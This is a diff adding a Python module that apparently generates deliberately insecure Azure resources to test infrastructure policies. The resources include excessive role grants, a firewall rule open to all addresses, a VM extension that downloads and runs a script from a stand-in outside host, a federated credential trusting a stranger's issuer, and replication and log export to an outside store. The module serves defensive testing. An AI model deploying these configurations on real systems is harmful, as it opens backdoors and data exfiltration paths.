@@ -1,0 +1,236 @@
+"""Resources that nobody asked for, added to a stack: a grant, a way in, a way out, a place for copies."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator, Mapping
+from typing import Any
+
+from policies.model import Estate, Resource
+from policies.mutations.model import Addition
+from policies.mutations.table import elsewhere
+from policies.mutations.table.access import BLOB_READER, TOO_MUCH
+from policies.mutations.table.networks import other_spokes
+
+Inputs = Mapping[str, Any]
+_SUBSCRIPTION = re.compile(r"/subscriptions/([^/]+)")
+BLOB_WRITER = "ba92f5b4-2d11-453d-a403-e96b0029c9fe"
+
+
+def _here(estate: Estate, stack: str, type_: str) -> list[Resource]:
+    return [r for r in estate.of(type_) if r.stack == stack]
+
+
+def _group(estate: Estate, stack: str) -> Resource | None:
+    return next(iter(_here(estate, stack, "resources:ResourceGroup")), None)
+
+
+def _made(group: Resource, type_: str, id_: str | None, inputs: Inputs, name: str = "side-door") -> Resource:
+    urn = f"urn:pulumi:{group.stack}::sde::azure-native:{type_}::{name}"
+    return Resource(urn=urn, type=type_, name=name, stack=group.stack, inputs=inputs, id=id_)
+
+
+def _in_group(
+    type_: str, path: str, inputs: Inputs, *, tagged: bool = True
+) -> Callable[[Estate, str], Iterator[Resource]]:
+    """A resource of a stack's first group, with the group's place and tags: nothing else is wrong with it."""
+
+    def make(estate: Estate, stack: str) -> Iterator[Resource]:
+        group = _group(estate, stack)
+        if group:
+            about = {"location": group.at("location"), "tags": group.at("tags")} if tagged else {}
+            place = {"resourceGroupName": group.at("resourceGroupName")}
+            yield _made(group, type_, f"{group.id}/providers/{path}", {**place, **about, **inputs})
+
+    return make
+
+
+def _grant(group: Resource, name: str, role: str, scope: str, principal: str, kind: str = "Group") -> Resource:
+    subscription = _SUBSCRIPTION.match(str(group.id))
+    definition = f"{subscription[0] if subscription else ''}/providers/Microsoft.Authorization/roleDefinitions/{role}"
+    inputs = {"roleAssignmentName": "51de0000-0000-4000-8000-000000000001", "roleDefinitionId": definition,
+              "principalId": principal, "principalType": kind, "scope": scope}  # fmt: skip
+    id_ = f"{scope}/providers/Microsoft.Authorization/roleAssignments/51de0000-0000-4000-8000-000000000001"
+    return _made(group, "authorization:RoleAssignment", id_, inputs, f"side-door-{name}")
+
+
+def _ruling(estate: Estate, stack: str) -> Iterator[Resource]:
+    """Each role that is too much, over the stack's group, its subscription, and a store of it."""
+    group = _group(estate, stack)
+    if group is None:
+        return
+    stores = [str(r.id) for r in _here(estate, stack, "storage:StorageAccount")[:1]]
+    for role, guid in TOO_MUCH.items():
+        for index, scope in enumerate([str(group.id), "/".join(str(group.id).split("/")[:3]), *stores]):
+            yield _grant(group, f"{role.lower().replace(' ', '-')}-{index}", guid, scope, elsewhere.PERSON)
+
+
+def _to_a_person(estate: Estate, stack: str) -> Iterator[Resource]:
+    group = _group(estate, stack)
+    for store in _here(estate, stack, "storage:StorageAccount")[:1]:
+        if group:
+            yield _grant(group, "person", BLOB_READER, str(store.id), elsewhere.PERSON, "User")
+
+
+def _airlock(estate: Estate, stack: str) -> Iterator[tuple[str, list[Resource]]]:
+    """The grants on each container of stores that have more than one: stages that must not be one person's."""
+    by_store: dict[str, list[Resource]] = {}
+    for grant in _here(estate, stack, "authorization:RoleAssignment"):
+        place, found, container = str(grant.at("scope")).partition("/blobServices/default/containers/")
+        if found and container in ("asked", "released"):
+            by_store.setdefault(place, []).append(grant)
+    yield from by_store.items()
+
+
+def _self_release(estate: Estate, stack: str) -> Iterator[Resource]:
+    """Who asks also releases; who fetches also sees what was not released yet."""
+    group = _group(estate, stack)
+    for store, grants in _airlock(estate, stack):
+        groups = {str(g.at("principalId")): g for g in grants if g.at("principalType") == "Group"}
+        for principal in groups:
+            held = {(str(g.at("scope")).rpartition("/")[2], str(g.at("roleDefinitionId"))[-36:])
+                    for g in grants if g.at("principalId") == principal}  # fmt: skip
+            for container, role in (("released", BLOB_WRITER), ("asked", BLOB_READER), ("asked", BLOB_WRITER)):
+                brings_or_fetches = held & {("asked", BLOB_WRITER), ("released", BLOB_READER)}
+                if group and brings_or_fetches and not any(c == container for c, _ in held):
+                    scope = f"{store}/blobServices/default/containers/{container}"
+                    name = f"{store.rpartition('/')[2]}-{container}-{role[:4]}-{principal[:4]}"
+                    yield _grant(group, name, role, scope, principal)
+
+
+def _across(estate: Estate, stack: str) -> Iterator[Resource]:
+    """A group of another stack's that is let into a store of this one, and one of this one's let into another's."""
+    group = _group(estate, stack)
+    mine = _groups(estate, stack)
+    others = [s for s in dict.fromkeys(r.stack for r in estate.resources) if s != stack]
+    for other in others:
+        their = [p for p in _groups(estate, other) if p not in mine]
+        stores = _here(estate, stack, "storage:StorageAccount")
+        if group and their and stores:
+            yield _grant(group, f"from-{other}", BLOB_READER, str(stores[0].id), their[0])
+        elsewheres = _here(estate, other, "storage:StorageAccount")
+        if group and mine and elsewheres:
+            yield _grant(group, f"into-{other}", BLOB_READER, str(elsewheres[0].id), mine[0])
+
+
+def _groups(estate: Estate, stack: str) -> list[str]:
+    """The groups of people that a stack grants the data of its stores to."""
+    return list(dict.fromkeys(
+        str(g.at("principalId")) for g in _here(estate, stack, "authorization:RoleAssignment")
+        if g.at("principalType") == "Group" and "/storageAccounts/" in str(g.at("scope"))
+    ))  # fmt: skip
+
+
+def _peered(estate: Estate, stack: str) -> Iterator[Resource]:
+    group = _group(estate, stack)
+    for network in _here(estate, stack, "network:VirtualNetwork"):
+        for words, id_ in [("elsewhere", elsewhere.NETWORK), *other_spokes(network, estate)]:
+            inputs = {
+                "resourceGroupName": network.at("resourceGroupName"),
+                "virtualNetworkName": network.at("virtualNetworkName"),
+                "virtualNetworkPeeringName": "peer-side-door", "remoteVirtualNetwork": {"id": id_},
+                "allowVirtualNetworkAccess": True, "allowForwardedTraffic": True, "allowGatewayTransit": False,
+                "useRemoteGateways": False,
+            }  # fmt: skip
+            if group:
+                name = f"{network.name}-to-{words.rpartition(' ')[2]}"
+                made = f"{network.id}/virtualNetworkPeerings/peer-side-door"
+                yield _made(group, "network:VirtualNetworkPeering", made, inputs, name)
+
+
+def _bare_subnet(estate: Estate, stack: str) -> Iterator[Resource]:
+    group = _group(estate, stack)
+    for network in _here(estate, stack, "network:VirtualNetwork"):
+        inputs = {"resourceGroupName": network.at("resourceGroupName"),
+                  "virtualNetworkName": network.at("virtualNetworkName"), "subnetName": "snet-side-door",
+                  "addressPrefix": "10.65.0.64/28"}  # fmt: skip
+        if group:
+            id_ = f"{network.id}/subnets/snet-side-door"
+            yield _made(group, "network:Subnet", id_, inputs, f"{network.name}-side-door")
+
+
+def _below(
+    type_: str, of: str, path: str, inputs: Inputs, names: Mapping[str, str]
+) -> Callable[[Estate, str], Iterator[Resource]]:
+    """A resource inside each first one of a type that the stack has."""
+
+    def make(estate: Estate, stack: str) -> Iterator[Resource]:
+        group = _group(estate, stack)
+        for above in _here(estate, stack, of)[:1]:
+            place = {key: above.at(theirs) for key, theirs in names.items()}
+            if group:
+                yield _made(group, type_, f"{above.id}/{path}", {**place, **inputs})
+
+    return make
+
+
+IN_GROUP = {"resourceGroupName": "resourceGroupName"}
+STORE = {**IN_GROUP, "accountName": "accountName"}
+MACHINE = {**IN_GROUP, "vmName": "vmName", "location": "location", "tags": "tags"}
+OUT = "a way out past the firewall"
+COPY = "data could be copied to where nobody looks"
+STRANGER = "a stranger's program would run with every right"
+SCRIPT = {"fileUris": ["https://stelsewhere.blob.core.windows.net/run.sh"], "commandToExecute": "sh run.sh"}
+CUSTOM_SCRIPT = {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
+                 "vmExtensionName": "side-door", "settings": SCRIPT}  # fmt: skip
+SNAPSHOT = {"snapshotName": "snap-side-door", "networkAccessPolicy": "AllowAll",
+            "creationData": {"createOption": "Copy", "sourceResourceId": f"{elsewhere.PROVIDERS}/Microsoft.Compute/disks/d"}}  # fmt: skip
+RULE = {"firewallRuleName": "side-door", "startIpAddress": "0.0.0.0", "endIpAddress": "255.255.255.255"}
+EXPORT_RULE = {"dataExportName": "side-door", "tableNames": ["StorageBlobLogs"],
+               "destination": {"resourceId": elsewhere.STORE}, "enable": True}  # fmt: skip
+CREDENTIAL = {"federatedIdentityCredentialResourceName": "side-door", "issuer": "https://token.elsewhere.example",
+              "subject": "anybody", "audiences": ["api://AzureADTokenExchange"]}  # fmt: skip
+COPIES = {"objectReplicationPolicyId": "default", "sourceAccount": "mine", "destinationAccount": elsewhere.STORE}
+ADDITIONS = (
+    Addition("a role that is too much", "its holder could undo every control", _ruling),
+    Addition("a grant to one person", "it would outlive the person's place in the project", _to_a_person),
+    Addition("a grant that joins what two must do", "one person could bring data out alone", _self_release),
+    Addition("a grant across stacks", "people of one project would see another's data", _across),
+    Addition("a peering", "networks that must not know each other could talk", _peered),
+    Addition("a bare subnet", "nothing would filter or route its traffic", _bare_subnet),
+    Addition("a public address", "something would stand on the Internet", _in_group(
+        "network:PublicIPAddress", "Microsoft.Network/publicIPAddresses/pip-side-door",
+        {"publicIpAddressName": "pip-side-door", "sku": {"name": "Standard"}, "publicIPAllocationMethod": "Static"})),
+    Addition("a NAT gateway", OUT, _in_group("network:NatGateway", "Microsoft.Network/natGateways/ng-side-door",
+                                             {"natGatewayName": "ng-side-door"})),
+    Addition("a gateway to other networks", OUT, _in_group(
+        "network:VirtualNetworkGateway", "Microsoft.Network/virtualNetworkGateways/vng-side-door",
+        {"virtualNetworkGatewayName": "vng-side-door"})),
+    Addition("a load balancer", "something would stand on the Internet", _in_group(
+        "network:LoadBalancer", "Microsoft.Network/loadBalancers/lb-side-door", {"loadBalancerName": "lb-side-door"})),
+    Addition("a snapshot that anybody may download", COPY, _in_group(
+        "compute:Snapshot", "Microsoft.Compute/snapshots/snap-side-door", SNAPSHOT)),
+    Addition("a store with nothing set", "Azure's defaults are open", _in_group(
+        "storage:StorageAccount", "Microsoft.Storage/storageAccounts/stsidedoor",
+        {"accountName": "stsidedoor", "kind": "StorageV2", "sku": {"name": "Standard_LRS"}})),
+    Addition("a vault with nothing set", "Azure's defaults are open", _in_group(
+        "keyvault:Vault", "Microsoft.KeyVault/vaults/kv-side-door",
+        {"vaultName": "kv-side-door", "properties": {"sku": {"family": "A", "name": "standard"}}})),
+    Addition("a data factory", COPY, _in_group("datafactory:Factory", "Microsoft.DataFactory/factories/adf-side-door",
+                                               {"factoryName": "adf-side-door"})),
+    Addition("a web site", "something would stand on the Internet", _in_group(
+        "web:WebApp", "Microsoft.Web/sites/app-side-door", {"name": "app-side-door"})),
+    Addition("a database open to all", "something would stand on the Internet", _in_group(
+        "dbforpostgresql:FirewallRule", "Microsoft.DBforPostgreSQL/flexibleServers/psql/firewallRules/side-door",
+        {"serverName": "psql", **RULE}, tagged=False)),
+    Addition("a program of a stranger's", STRANGER, _below(
+        "compute:VirtualMachineExtension", "compute:VirtualMachine", "extensions/side-door", CUSTOM_SCRIPT, MACHINE)),
+    Addition("a command on a desk", STRANGER, _below(
+        "compute:VirtualMachineRunCommandByVirtualMachine", "compute:VirtualMachine", "runCommands/side-door",
+        {"runCommandName": "side-door", "source": {"script": "id"}}, MACHINE)),
+    Addition("a local user of a store", "a password, which names nobody, would open it", _below(
+        "storage:LocalUser", "storage:StorageAccount", "localUsers/side-door",
+        {"username": "side-door", "hasSshPassword": True}, STORE)),
+    Addition("copies of blobs to elsewhere", COPY, _below(
+        "storage:ObjectReplicationPolicy", "storage:StorageAccount", "objectReplicationPolicies/default", COPIES, STORE)),
+    Addition("an export of logs", COPY, _below(
+        "operationalinsights:DataExport", "operationalinsights:Workspace", "dataExports/side-door", EXPORT_RULE,
+        {**IN_GROUP, "workspaceName": "workspaceName"})),
+    Addition("somebody else's credential for an identity", "a stranger could act as the estate's own service", _below(
+        "managedidentity:FederatedIdentityCredential", "managedidentity:UserAssignedIdentity",
+        "federatedIdentityCredentials/side-door", CREDENTIAL, {**IN_GROUP, "resourceName": "resourceName"})),
+    Addition("an access policy of a vault", "who holds which key would be hidden", _below(
+        "keyvault:AccessPolicy", "keyvault:Vault", "accessPolicy/side-door",
+        {"policy": {"objectId": elsewhere.PERSON, "permissions": {"secrets": ["get"]}}},
+        {**IN_GROUP, "vaultName": "vaultName"})),
+)  # fmt: skip
